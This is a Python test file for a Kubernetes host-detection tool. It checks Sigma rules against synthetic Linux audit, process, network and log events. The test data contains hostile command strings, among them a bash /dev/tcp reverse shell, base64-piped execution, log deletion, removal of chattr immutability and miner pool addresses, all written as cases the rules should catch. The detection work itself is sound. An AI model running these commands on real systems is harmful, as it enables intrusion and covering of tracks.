"""Sigma rules judge a machine: each log source with its fields, like matches counted once, none put aside wrongly."""

from __future__ import annotations

from collections.abc import Mapping
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kubewitness.detect.host.finding import HostFinding
from kubewitness.detect.host.judging import judge
from kubewitness.detect.host.sigma import HostRules, happenings
from kubewitness.model.evidence import Place
from kubewitness.model.host import Host, HostEvent, LogLine, Socket
from kubewitness.rules.host_fields import audit_records, event_reader, log_sources_of, record_reader
from kubewitness.rules.ir import Rule
from kubewitness.rules.loader import load_rules
from tests.corpus import CORPUS, needs_corpus
from tests.detect.host.making import CONTAINER, host, listening, process
from tests.rules.naive import matches
from tests.rules.writing import load_texts, rule_text

CREATION = {"product": "linux", "category": "process_creation"}
CONNECTION = {"product": "linux", "category": "network_connection"}


def event(category: Any = "process_creation", **more: Any) -> HostEvent:
    return HostEvent(**{"category": category, "source": "falco", "place": Place("events.json", 1, 0), **more})


def execution(*argv: str, **more: Any) -> HostEvent:
    """An execve as linux_audit tells it."""
    image = more.pop("image", f"/usr/bin/{argv[0]}")
    fields = {
        "type": "SYSCALL", "types": "SYSCALL,EXECVE,CWD,PATH,PROCTITLE", "SYSCALL": "execve", "syscall": "59",
        "success": "yes", "exe": image, "comm": argv[0][:15], "uid": "0", "name": image, "nametype": "NORMAL",
        **{f"a{number}": word for number, word in enumerate(argv)},
    }  # fmt: skip
    return event(
        **{
            "source": "linux_audit", "pid": 77, "image": image, "command": " ".join(argv), "argv": argv, "cwd": "/root",
            "fields": fields, **more,
        }
    )  # fmt: skip


def path_event(name: str, call: str = "openat", nametype: str = "CREATE", **more: Any) -> HostEvent:
    """A file that was made, as linux_audit tells it."""
    fields = {
        "type": "SYSCALL", "types": "SYSCALL,CWD,PATH,PATH,PROCTITLE", "SYSCALL": call, "comm": "vi",
        "exe": "/usr/bin/vi", "name": name, "nametype": nametype,
    }  # fmt: skip
    return event(
        "file_event", **{"source": "linux_audit", "image": "/usr/bin/vi", "path": name, "fields": fields, **more}
    )


def record(kind: str, **fields: str) -> HostEvent:
    return event("record", source="linux_audit", fields={"type": kind, "types": kind, **fields})


def logged(program: str, message: str) -> HostEvent:
    return event("record", source="journal", message=message, fields={"program": program})


def rules_of(folder: Path, item: Any, logsource: Mapping[str, str], **more: Any) -> HostRules:
    loaded = load_texts(folder, rule=rule_text({"s": item, "condition": "s"}, logsource=dict(logsource), **more))
    assert [str(error) for error in loaded.errors] == []
    return HostRules(loaded.host_rules)


def found(rules: HostRules, machine: Host) -> list[HostFinding]:
    return list(rules.findings(machine))


# -- the public rules


@cache
def public() -> tuple[Rule, ...]:
    assert CORPUS is not None
    return load_rules([CORPUS / "SigmaHQ__sigma/rules/linux"]).host_rules


@cache
def public_engine() -> HostRules:
    return HostRules(public())


def names(happened: HostEvent) -> set[str]:
    return {rule.id.rpartition("/")[2] for rule, _ in public_engine().match(happened)}


CASES: dict[str, tuple[HostEvent, HostEvent]] = {
    "proc_creation_lnx_clear_logs": (
        event(image="/usr/bin/rm", command="rm -rf /var/log/auth.log"),
        event(image="/usr/bin/rm", command="rm -f /var/log/sysstat/sa22"),
    ),
    "proc_creation_lnx_crypto_mining": (
        event(command="./.system -o pool.supportxmr.com:3333"),
        event(command="./render -o poolside.png"),
    ),
    "proc_creation_lnx_base64_execution": (
        event(command="sh -c echo aWQ= |base64 -d | bash"),
        event(command="base64 -d report.b64"),
    ),
    "proc_creation_lnx_webshell_detection": (
        event(image="/usr/bin/whoami", command="whoami", parent_image="/usr/sbin/nginx"),
        event(image="/usr/bin/whoami", command="whoami", parent_image="/usr/bin/bash"),
    ),
    "proc_creation_lnx_susp_execution_tmp_folder": (
        event(image="/tmp/kinsing", command="./kinsing"),
        event(image="/usr/bin/ls", command="ls /tmp/"),
    ),
    "proc_creation_lnx_omigod_scx_runasprovider_executescript": (
        event(
            command="sh /etc/opt/microsoft/scx/conf/tmpdir/scxA",
            user="0",
            cwd="/var/opt/microsoft/scx/tmp",
            fields={"LogonId": "0"},
        ),
        event(command="sh /etc/opt/microsoft/scx/conf/tmpdir/scxA", user="0", cwd="/var/opt/microsoft/scx/tmp"),
    ),
    "file_event_lnx_persistence_sudoers_files": (
        event("file_event", path="/etc/sudoers.d/x", image="/usr/bin/tee"),
        event("file_event", path="/etc/sudoers.d/README.dpkg-new", image="/usr/bin/dpkg"),
    ),
    "file_event_lnx_susp_cron_file_created": (
        path_event("/etc/cron.d/update"),
        path_event("/etc/cron.d/update", call="unlink", nametype="DELETE"),
    ),
    "net_connection_lnx_crypto_mining_indicators": (
        event("network_connection", address="pool.supportxmr.com", port=443),
        event("network_connection", address="192.0.2.1", port=443),
    ),
    "net_connection_lnx_susp_malware_callback_port": (
        event("network_connection", address="203.0.113.7", port=4444, fields={"SYSCALL": "connect"}),
        event("network_connection", address="10.1.2.3", port=4444, fields={"SYSCALL": "connect"}),
    ),
    "net_connection_lnx_back_connect_shell_dev": (
        event("network_connection", image="/usr/bin/bash", address="203.0.113.7", port=53),
        event("network_connection", image="/usr/bin/bash", address="127.0.0.1", port=53),
    ),
    "lnx_auditd_chattr_immutable_removal": (
        execution("chattr", "-i", "/etc/passwd"),
        execution("chattr", "+i", "/etc/passwd"),
    ),
    "lnx_auditd_binary_padding": (
        execution("truncate", "-s", "+10M", "a.out"),
        execution("dd", "if=/dev/zero", "of=/tmp/x"),
    ),
    "lnx_auditd_systemd_service_creation": (
        path_event("/etc/systemd/system/x.service"),
        path_event("/etc/systemd/system/x.service", nametype="NORMAL"),
    ),
    "lnx_auditd_hidden_binary_execution": (
        execution("sh", image="/var/tmp/.x/sh"),
        execution("sh", image="/root/.cache/x/sh"),
    ),
    "lnx_auditd_web_rce": (
        execution("id", fields={"type": "SYSCALL", "types": "SYSCALL,EXECVE", "SYSCALL": "execve", "euid": "33"}),
        execution("id", fields={"type": "SYSCALL", "types": "SYSCALL,EXECVE", "SYSCALL": "execve", "euid": "0"}),
    ),
    "lnx_auditd_susp_c2_commands": (
        execution("ls", fields={"type": "SYSCALL", "types": "SYSCALL", "key": "watched,susp_activity"}),
        execution("ls", fields={"type": "SYSCALL", "types": "SYSCALL", "key": "susp_activities"}),
    ),
    "lnx_auditd_disable_system_firewall": (
        record("SERVICE_STOP", unit="firewalld", res="success"),
        record("SERVICE_START", unit="firewalld", res="success"),
    ),
    "lnx_cron_crontab_file_modification": (
        logged("crontab", "(root) REPLACE (root)"),
        logged("dpkg", "REPLACE libc6"),
    ),
    "lnx_sshd_susp_ssh": (
        logged("sshd", "Corrupted MAC on input. [preauth]"),
        logged("sshd", "Accepted publickey for root"),
    ),
    "lnx_shell_susp_rev_shells": (
        event("command", source="shell_history", command="bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
        event("alert", rule="Reverse shell", message="bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"),
    ),
}  # fmt: skip


@needs_corpus
@pytest.mark.parametrize("name", CASES)
def test_a_public_rule_speaks_of_what_it_was_written_for_and_not_of_its_neighbour(name: str) -> None:
    intended, near_miss = CASES[name]
    assert name in names(intended)
    assert name not in names(near_miss)


def naive(rules: tuple[Rule, ...], happened: HostEvent) -> set[str]:
    """What the rules mean, without any haste."""
    out = set[str]()
    for rule in rules:
        if rule.log_source not in log_sources_of(happened):
            continue
        if rule.log_source == "auditd":
            spoke = any(matches(rule.condition, one, record_reader) for one in audit_records(happened))
        else:
            spoke = matches(rule.condition, happened, event_reader)
        out |= {rule.id} if spoke else set()
    return out


WORDS = st.sampled_from(
    ["rm", "curl", "/etc/shadow", "/var/log", "-i", "chattr", "bash", "-c", "|", "base64 -d", "of=", "truncate", "-s",
     "stratum+tcp://", "/tmp/x", "--help", "password", "grep", "ΑΣ İ", "\n", ""]
)  # fmt: skip
EVENTS = st.one_of(
    st.builds(lambda words: execution(*words), st.lists(WORDS, min_size=1, max_size=6)),
    st.builds(lambda words, image: event(command=" ".join(words), image=image), st.lists(WORDS, max_size=6), WORDS),
    st.builds(path_event, WORDS, nametype=st.sampled_from(["CREATE", "NORMAL", "DELETE"])),
    st.builds(logged, st.sampled_from(["sshd", "crontab", "kernel"]), WORDS),
    st.builds(
        lambda address, port: event("network_connection", address=address, port=port, image="/bin/bash"),
        st.sampled_from(["203.0.113.7", "127.0.0.1", "x.localto.net", "", "::1"]),
        st.sampled_from([0, 443, 4444]),
    ),
    *(st.just(one) for pair in CASES.values() for one in pair),
)


@needs_corpus
@settings(max_examples=120)
@given(EVENTS)
def test_the_engine_says_what_the_naive_one_says(happened: HostEvent) -> None:
    assert {rule.id for rule, _ in public_engine().match(happened)} == naive(public(), happened)


# -- what a machine shows


def test_a_running_process_was_created_by_its_parent_in_the_list(tmp_path: Path) -> None:
    rules = rules_of(tmp_path, {"Image|endswith": "/sh", "ParentCommandLine|contains": "tomcat"}, CREATION)
    parent = process("/usr/bin/java -jar tomcat.jar", ppid=1)
    child = process("sh -i", ppid=parent.pid, user="tomcat", container=CONTAINER, pod_uid="u1")
    (one,) = found(rules, Host("node1", processes=[parent, child, process("sh -i", ppid=1)]))
    assert (one.process, one.container, one.pod_uid, one.count) == (child, CONTAINER, "u1", 1)
    assert [reason.en for reason in one.reasons] == [
        "Image: ?/sh",
        "ParentCommandLine: /usr/bin/java -jar tomcat.jar",
    ]


def test_a_folder_that_is_not_known_is_not_guessed(tmp_path: Path) -> None:
    """`./x` in a list may lie anywhere; only the working directory tells."""
    rules = rules_of(tmp_path, {"Image|startswith": "/tmp/"}, CREATION)
    assert found(rules, host("./x", "x")) == []
    assert found(rules, Host("node1", processes=[process("./x", cwd="/tmp")]))
    assert found(rules, Host("node1", processes=[process("[kworker/0:1]", executable="/tmp/x (deleted)")]))


def test_a_kernel_thread_has_no_image(tmp_path: Path) -> None:
    rules = rules_of(tmp_path, {"Image": None, "CommandLine|startswith": "["}, CREATION)
    assert [one.subject for one in found(rules, host("[kthreadd]", "/sbin/init"))] == ["[kthreadd]"]


def test_an_open_connection_is_one_of_the_program_that_holds_it(tmp_path: Path) -> None:
    rules = rules_of(tmp_path, {"Image|endswith": "/bash", "Initiated": "true", "DestinationPort": 4444}, CONNECTION)
    shell = process("bash -i", executable="/usr/bin/bash")

    def socket(local: int) -> Socket:
        owners = (("bash", shell.pid),)
        return Socket("tcp", "ESTAB", "10.0.0.5", local, "203.0.113.7", 4444, Place("ss.txt", 1, 0), owners)

    (one,) = found(rules, Host("node1", processes=[shell], sockets=[socket(40000)]))
    assert (one.subject, one.process) == ("bash -i → 203.0.113.7 4444", shell)
    assert found(rules, Host("node1", processes=[shell], sockets=[socket(22), listening("0.0.0.0", 22)])) == []


def test_who_accepts_a_connection_is_its_destination(tmp_path: Path) -> None:
    rules = rules_of(tmp_path, {"DestinationIp": "203.0.113.7"}, CONNECTION)

    def peer(call: str) -> Host:
        return Host("n", events=[event("network_connection", address="203.0.113.7", port=1, fields={"SYSCALL": call})])

    assert found(rules, peer("connect"))
    assert found(rules, peer("accept4")) == []


def test_selections_of_two_types_are_not_one_record(tmp_path: Path) -> None:
    """As auditd writes them: no record is an EXECVE and a PATH."""
    auditd = {"product": "linux", "service": "auditd"}
    both = rules_of(tmp_path, {"a0": "sh", "name|endswith": "sh"}, auditd)
    assert found(both, Host("n", events=[execution("sh")])) == []
    for item in (
        {"type": "EXECVE", "a0": "sh"},
        {"type": "PATH", "name": "/usr/bin/sh"},
        {"type": "SYSCALL", "comm": "sh"},
    ):
        assert found(rules_of(tmp_path, item, auditd), Host("n", events=[execution("sh")]))
    assert found(rules_of(tmp_path, {"type": "SYSCALL", "a0": "sh"}, auditd), Host("n", events=[execution("sh")])) == []


def test_logs_of_components_are_text_of_the_machine_but_not_those_of_containers(tmp_path: Path) -> None:
    rules = rules_of(tmp_path, ["out of memory"], {"product": "linux"})

    def line(component: Any) -> LogLine:
        return LogLine(component, "", "error", "Out of memory: killed", {}, Place("log", 1, 0))

    assert len(found(rules, Host("n", logs=[line("kubelet")]))) == 1
    assert found(rules, Host("n", logs=[line("container"), line("control_plane")])) == []


def test_what_failed_did_not_happen(tmp_path: Path) -> None:
    rules = rules_of(tmp_path, {"Image|endswith": "/curl"}, CREATION)
    assert found(rules, Host("n", events=[execution("curl", succeeded=False)])) == []
    assert found(rules, Host("n", events=[execution("curl", succeeded=None)]))


# -- findings


def test_like_matches_are_one_finding_with_their_number_and_times(tmp_path: Path) -> None:
    rules = rules_of(tmp_path, {"Image|endswith": "/curl"}, CREATION, level="high", id="x", tags=["attack.t1105"])
    times = [f"2026-11-22T03:0{minute}:00.000000Z" for minute in range(4)]
    machine = Host(
        "node1",
        events=[
            execution("curl", "http://a", time=times[1], last=times[3], count=5, container=CONTAINER, user="1000"),
            execution("curl", "http://a", time=times[0], container=CONTAINER),
            execution("curl", "http://b", time=times[2], container=CONTAINER),
        ],
    )
    one, other = found(rules, machine)
    assert (one.count, one.first, one.last) == (6, times[0], times[3])
    assert (one.rule, one.severity, one.confidence, one.kind) == ("rule", "high", "medium", "activity")
    assert (one.techniques, one.containers, one.commands) == (("T1105",), (CONTAINER,), ("curl http://a",))
    assert (one.process.pid if one.process else 0, one.user) == (77, "1000")
    assert other.subject == "curl http://b"


def test_whoever_invents_commands_gets_a_bounded_number_of_findings(tmp_path: Path) -> None:
    rules = rules_of(tmp_path, {"Image|endswith": "/curl"}, CREATION)
    findings = found(rules, host(*(f"curl http://{n}" for n in range(1000))))
    assert len(findings) == 200
    assert sum(one.count for one in findings) == 1000
    assert max(len(one.places) for one in findings) <= 8


def test_hostile_text_costs_little_and_harms_nothing(tmp_path: Path) -> None:
    rules = rules_of(tmp_path, {"CommandLine|contains|all": ["a" * 30, "b"], "CommandLine|re": "(a+)+$"}, CREATION)
    long = "a" * 60_000
    texts = [long, long + "b" + "a", "\0\x1b[2J\ud800 b" + "a" * 30]
    assert len(found(rules, Host("n", processes=[process(text) for text in texts]))) == 2


def test_sigma_findings_stand_among_the_others_the_worst_first(tmp_path: Path) -> None:
    rules = rules_of(tmp_path, {"CommandLine|contains": "xmrig"}, CREATION, level="critical")
    findings = judge(host("xmrig -o pool.supportxmr.com:3333"), rules)
    assert [finding.severity for finding in findings if finding.rule == "rule"] == ["critical"]
    assert {finding.severity for finding in findings[:2]} == {"critical"}
    assert {"rule", "host/miner_process"} <= {finding.rule for finding in findings}


def test_everything_of_a_machine_is_looked_at_once() -> None:
    machine = host("a", "b", events=[execution("c")])
    assert [happened.command for happened, _ in happenings(machine)] == ["a", "b", "c"]
